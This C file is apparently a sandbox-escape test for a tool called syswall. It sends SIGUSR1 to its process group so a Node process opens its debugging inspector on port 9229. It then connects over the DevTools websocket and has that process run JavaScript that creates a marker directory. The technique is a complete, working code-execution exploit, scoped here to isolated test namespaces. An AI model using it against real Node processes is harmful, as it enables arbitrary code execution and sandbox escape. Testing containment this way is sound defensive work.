/* Attack: signal the process group the command shares with whoever started
 * it (kill(0, SIGUSR1): a PID namespace does not separate process groups),
 * which makes a Node process in it (syswall's own, or the next stage of a
 * pipeline) start its inspector on 127.0.0.1:9229; then connect and have it
 * run JavaScript: mkdir MARKER, outside any filter.
 *
 *   inspector_escape MARKER
 *
 * SAFETY: the tests run this in a network namespace of their own (so port
 * 9229 can only be a process the test started) and a session of its own (so
 * kill(0) reaches only processes the test started); and the expression acts
 * only in a process whose argv names MARKER. Prints "ESCAPED" (exit 0) when
 * the directory was made by the Node process, else "contained" (exit 1). */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static int dial(void) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (s < 0) return -1;
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(9229)};
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) { close(s); return -1; }
  struct timeval tv = {.tv_sec = 5};
  setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  return s;
}

/* Reads until `until` appears (or 64 KiB, or end of stream); returns the length. */
static size_t read_until(int s, char *buf, size_t cap, const char *until) {
  size_t n = 0;
  while (n < cap - 1) {
    ssize_t r = read(s, buf + n, cap - 1 - n);
    if (r <= 0) break;
    for (ssize_t i = 0; i < r; i++) if (!buf[n + (size_t)i]) buf[n + (size_t)i] = ' '; /* frame headers */
    n += (size_t)r;
    buf[n] = 0;
    if (until && strstr(buf, until)) break;
  }
  buf[n] = 0;
  return n;
}

static void send_all(int s, const void *p, size_t n) {
  while (n > 0) {
    ssize_t w = write(s, p, n);
    if (w <= 0) return;
    p = (const char *)p + w;
    n -= (size_t)w;
  }
}

int main(int argc, char **argv) {
  if (argc != 2 || strchr(argv[1], '"') || strchr(argv[1], '\\')) { fprintf(stderr, "usage: inspector_escape MARKER\n"); return 2; }
  const char *marker = argv[1];
  signal(SIGUSR1, SIG_IGN); /* we are in the group too */
  int r = kill(0, SIGUSR1);
  printf("kill(0, SIGUSR1): %s\n", r == 0 ? "sent" : strerror(errno));
  fflush(stdout);
  int s = -1;
  for (int i = 0; i < (r == 0 ? 60 : 10) && s < 0; i++) { /* up to 3 s for Node to listen (0.5 s when nothing was sent) */
    s = dial();
    if (s < 0) { struct timespec t = {0, 50 * 1000 * 1000}; nanosleep(&t, NULL); }
  }
  if (s < 0) { printf("inspector: nothing listens on 127.0.0.1:9229\ncontained\n"); return 1; }
  static char buf[65536];
  const char *list = "GET /json/list HTTP/1.1\r\nHost: 127.0.0.1:9229\r\nConnection: close\r\n\r\n";
  send_all(s, list, strlen(list));
  read_until(s, buf, sizeof buf, NULL);
  close(s);
  char *ws = strstr(buf, "\"webSocketDebuggerUrl\": \"ws://127.0.0.1:9229/");
  if (!ws) { printf("inspector: no target in /json/list\ncontained\n"); return 1; }
  ws += strlen("\"webSocketDebuggerUrl\": \"ws://127.0.0.1:9229");
  char path[128];
  size_t pl = strcspn(ws, "\"");
  if (pl >= sizeof path) pl = sizeof path - 1;
  memcpy(path, ws, pl);
  path[pl] = 0;
  printf("inspector: target %s\n", path);
  s = dial();
  if (s < 0) { printf("inspector: reconnect failed\ncontained\n"); return 1; }
  char req[512];
  int n = snprintf(req, sizeof req, "GET %s HTTP/1.1\r\nHost: 127.0.0.1:9229\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                   "Sec-WebSocket-Key: c3lzd2FsbC1hdHRhY2sxMg==\r\nSec-WebSocket-Version: 13\r\n\r\n", path);
  send_all(s, req, (size_t)n);
  read_until(s, buf, sizeof buf, "\r\n\r\n");
  if (!strstr(buf, " 101 ")) { printf("inspector: no websocket\ncontained\n"); return 1; }
  /* Runtime.evaluate, acting only in the process whose argv names MARKER. */
  char msg[2048];
  int ml = snprintf(msg, sizeof msg,
                    "{\"id\":1,\"method\":\"Runtime.evaluate\",\"params\":{\"expression\":"
                    "\"process.argv.some((a) => a.includes('%s')) ? (process.getBuiltinModule('fs').mkdirSync('%s'), 'made by pid ' + process.pid) : 'not the test process'\"}}",
                    marker, marker);
  unsigned char frame[2100];
  size_t fl = 0;
  frame[fl++] = 0x81; /* FIN, text */
  if (ml < 126) frame[fl++] = (unsigned char)(0x80 | ml);
  else { frame[fl++] = 0x80 | 126; frame[fl++] = (unsigned char)(ml >> 8); frame[fl++] = (unsigned char)ml; }
  memset(frame + fl, 0, 4); /* mask key 0: the payload goes as it is */
  fl += 4;
  memcpy(frame + fl, msg, (size_t)ml);
  fl += (size_t)ml;
  send_all(s, frame, fl);
  size_t got = read_until(s, buf, sizeof buf, "\"id\":1");
  read_until(s, buf + got, sizeof buf - got, "}}");
  char *v = strstr(buf, "\"value\":");
  printf("evaluate: %.120s\n", v ? v : "(no result)");
  close(s);
  struct stat st;
  int escaped = stat(marker, &st) == 0;
  printf(escaped ? "ESCAPED\n" : "contained\n");
  return escaped ? 0 : 1;
}
